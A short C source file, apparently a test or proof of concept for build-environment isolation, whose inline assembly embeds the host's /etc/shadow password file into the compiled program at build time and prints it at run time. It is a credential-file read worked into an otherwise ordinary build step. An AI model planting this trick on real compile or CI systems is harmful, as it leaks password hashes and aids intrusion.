/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Has the assembler put the passwords of the host into the program.
 */
#include <stdio.h>

extern const char data[];
__asm__(".section .rodata\ndata: .incbin \"/etc/shadow\"\n.byte 0\n.previous");

int main(void)
{
	puts(data);
	return 0;
}
